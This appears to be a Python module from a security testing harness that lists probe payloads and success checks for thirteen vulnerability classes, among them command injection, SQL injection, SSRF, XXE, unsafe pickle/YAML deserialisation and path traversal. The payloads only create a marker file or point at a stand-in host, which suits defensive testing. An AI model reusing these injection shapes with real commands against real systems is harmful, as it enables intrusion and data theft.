"""What an attack sends, by the class of the weakness, and how one sees that it worked.

Each payload makes something harmless happen that ordinary input does not: a file named `fired`, an odd word
in a page, a connection that is only begun. Nothing here is aimed at anybody.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final
from urllib.parse import urlsplit

from vedette.agents.patching.harness import PLACE, Told, Value

WORK: Final = "{work}"
"""Stands for the folder the probe runs in, which it puts in itself."""
_FIRED: Final = f"{WORK}/{PLACE}/fired"
_INSIDE: Final = "what-nobody-may-read"
_UP: Final = "../" * 12
_EVIL: Final = "evil.example"
_LITERAL = re.compile(r"'(?:[^'\\]|''|\\.)*'|\"(?:[^\"\\]|\"\"|\\.)*\"|\b\d+(?:\.\d+)?\b")


@dataclass(frozen=True, slots=True)
class Attack:
    """The payloads of one class of weakness, and its oracle."""

    payloads: tuple[Value, ...]
    works: Callable[[Told, Told], bool]
    """Of an attack and of a harmless call: whether the attack did what it was to do."""


def _fired(told: Told, harmless: Told) -> bool:
    return told.fired and not harmless.fired


def _escaped(told: Told, harmless: Told) -> bool:
    """Whether a file outside was reached for, or its content given back."""
    del harmless
    return f"{PLACE}/outside.txt" in told.files or _INSIDE in told.shown


def skeleton(sql: str) -> str:
    """Return a statement without its literals: what a database takes for its meaning."""
    return " ".join(_LITERAL.sub("?", sql).split())


def _changed_statement(told: Told, harmless: Told) -> bool:
    if not told.sql or not harmless.sql:
        return False
    return [skeleton(one) for one in told.sql] != [skeleton(one) for one in harmless.sql]


def _led_away(told: Told, harmless: Told) -> bool:
    """Whether a browser sent there ends up on a host of the attacker's."""
    del harmless
    found = [*told.redirects, *re.findall(r"[Ll]ocation['\"]?\s*[:=]\s*['\"]?([^\s'\"]+)", told.shown)]
    if not told.redirects and told.ended == "returned" and told.type == "str":
        found.append(told.shown.split(" ")[0])
    return any(leads_away(one) for one in found)


def leads_away(location: str) -> bool:
    """Whether a browser follows a location to another host, as browsers read one."""
    plain = re.sub(r"[\t\r\n]", "", location.strip()).replace("\\", "/")
    plain = re.sub(r"^(https?):/*(?=[^/])", r"\1://", plain, flags=re.IGNORECASE)
    plain = re.sub(r"^/{2,}", "//", plain)
    try:
        host = urlsplit(plain).hostname or ""
    except ValueError:
        return True
    return host == _EVIL or host.endswith(f".{_EVIL}")


def _in_page(told: Told, harmless: Told) -> bool:
    return "<vdt-x" in told.shown and "<vdt-x" not in harmless.shown


def _calculated(told: Told, harmless: Told) -> bool:
    return "vdt1369" in told.shown and "vdt1369" not in harmless.shown


def _connected(told: Told, harmless: Told) -> bool:
    inner = re.compile(r"127\.0\.0\.1|localhost|169\.254\.169\.254|::1|2130706433|0\.0\.0\.0|0x7f")
    return any(inner.search(one) for one in told.hosts) and not any(map(inner.search, harmless.hosts))


def _forged(told: Told, harmless: Told) -> bool:
    del harmless
    return any(re.search(r"[\r\n]\s*vdt-forged", one) for one in told.logged)


def _as_option(told: Told, harmless: Told) -> bool:
    """Whether a program was given an option of the attacker's: nothing before it said that options end."""
    del harmless
    return any(
        one.startswith("-") and "vdt-option" in one and "--" not in command[:at]
        for command in told.commands
        for at, one in enumerate(command)
    )


def _texts(*texts: str) -> tuple[Value, ...]:
    return tuple({"text": one} for one in texts)


def _commands() -> Iterator[Value]:
    touch = f"touch {_FIRED}"
    for shape in (
        "x; {}",
        "x | {}",
        "x && {}",
        "x || {}",
        "x\n{}\n",
        "$({})",
        "`{}`",
        "x'; {} '",
        'x"; {} "',
        "{} #",
        "x'$({})",
        'x"$({})',
        "x\\'; {} #",
        "x & {}",
    ):
        yield {"text": shape.format(touch)}


def _paths() -> tuple[Value, ...]:
    target = f"{PLACE}/outside.txt"
    return _texts(
        "../outside.txt",
        f"{WORK}/{target}",
        f"{_UP}{WORK}/{target}",
        f"x/../../{target}",
        f"..//..//{target}",
        f"....//....//{target}",
        "hello.txt/../../outside.txt",
        "./../outside.txt",
        "%2e%2e/outside.txt",
        f"{_UP}{WORK}/{target}\0.txt",
    )


_PICKLE = f"cos\nmkdir\n(S'{_FIRED}'\ntR."
_CALL = f"__import__('os').mkdir('{_FIRED}')"
_XML = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://{work}/%s/outside.txt">]><a>&x;</a>' % PLACE,  # noqa: UP031
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "file://{work}/' + PLACE + '/outside.txt"> %p;]><a/>',
)
ATTACKS: Final[dict[str, Attack]] = {
    "command-injection": Attack(tuple(_commands()), _fired),
    "argument-injection": Attack(
        _texts("--vdt-option", "--vdt-option=1", "-vdt-option", "-ovdt-option", "--vdt-option\n"), _as_option
    ),
    "code-injection": Attack(
        _texts(
            _CALL,
            f"[{_CALL}]",
            f"(lambda: {_CALL})()",
            f"1 if {_CALL} else 2",
            f"1\n{_CALL}",
            f"'+str({_CALL})+'",
        ),
        _fired,
    ),
    "unsafe-deserialisation": Attack(
        (
            {"data": _PICKLE},
            {"text": _PICKLE},
            {"file": _PICKLE},
            {"text": f'!!python/object/apply:os.mkdir ["{_FIRED}"]'},
            {"file": f'!!python/object/apply:os.mkdir ["{_FIRED}"]'},
            {"text": f'!!python/object/new:os.mkdir ["{_FIRED}"]'},
            {"text": f'{{"py/reduce": [{{"py/function": "os.mkdir"}}, {{"py/tuple": ["{_FIRED}"]}}]}}'},
        ),
        _fired,
    ),
    "path-traversal": Attack(_paths(), _escaped),
    "sql-injection": Attack(
        _texts(
            "x' OR 'v'='v",
            'x" OR "v"="v',
            "1 OR 1=1",
            "1; DROP TABLE v",
            "x' UNION SELECT v --",
            "x'/**/OR/**/1=1#",
            "x\\' OR 1=1 --",
            "v, v",
        ),
        _changed_statement,
    ),
    "open-redirect": Attack(
        _texts(
            f"https://{_EVIL}/",
            f"//{_EVIL}/",
            f"/\\{_EVIL}/",
            f"https:{_EVIL}",
            f"\\/\\/{_EVIL}",
            f"///{_EVIL}/",
            f"https:///{_EVIL}",
            f"/\t/{_EVIL}",
            f"http://example.org@{_EVIL}/",
            f"https://example.org.{_EVIL}/",
        ),
        _led_away,
    ),
    "cross-site-scripting": Attack(
        _texts("<vdt-x>", "'><vdt-x>", '"><vdt-x>', "</script><vdt-x>", "--><vdt-x>", "&lt;vdt-x&gt;<vdt-x>"),
        _in_page,
    ),
    "template-injection": Attack(
        _texts(
            "vdt{{37*37}}", "vdt${37*37}", "vdt{{ 37 * 37 }}", "{% set a = 37*37 %}vdt{{a}}", "vdt{37*37}"
        ),
        _calculated,
    ),
    "ssrf": Attack(
        _texts(
            "http://127.0.0.1:9/",
            "http://169.254.169.254/latest/meta-data/",
            "http://localhost:9/",
            "http://[::1]:9/",
            "http://2130706433:9/",
            "http://0x7f000001:9/",
            "http://example.org@127.0.0.1:9/",
            "//127.0.0.1:9/",
        ),
        _connected,
    ),
    "log-injection": Attack(
        _texts("x\nvdt-forged", "x\r\nvdt-forged", "x\rvdt-forged", "x\n\nvdt-forged"), _forged
    ),
    "archive-extraction": Attack(
        tuple(
            {kind: name} for kind in ("tar", "zip") for name in (_FIRED, f"{_UP}{_FIRED}", f"a/{_UP}{_FIRED}")
        ),
        _fired,
    ),
    "xxe": Attack(
        (*_texts(*_XML), *({"data": one} for one in _XML), *({"file": one} for one in _XML)), _escaped
    ),
}
"""By rule."""
